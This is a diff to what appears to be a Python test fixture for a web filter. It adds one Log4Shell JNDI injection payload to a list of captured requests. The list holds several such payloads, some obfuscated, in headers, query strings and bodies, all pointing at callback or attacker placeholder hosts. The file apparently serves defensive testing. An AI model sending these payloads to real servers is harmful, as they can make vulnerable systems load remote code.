@@ -125,6 +125,7 @@ def log4shell() -> Capture:
             get("/", response(), agent=f"${{jndi:ldap://{CALLBACK}/a}}"),
             get(f"/?x=%24%7Bjndi%3Armi%3A%2F%2F{ATTACKER}%2Fa%7D", response()),
             post("/login", f"user=$%7Bjndi:ldap://{CALLBACK}/a%7D&pass=x".encode(), FORBIDDEN),
+            post("/api", f'{{"name": "${{${{::-j}}ndi:rmi://{ATTACKER}/a}}"}}'.encode(), FORBIDDEN),
             get("/", response(), agent=f"${{${{lower:j}}ndi:${{lower:l}}dap://{CALLBACK}/a}}"),
             get(
                 "/",
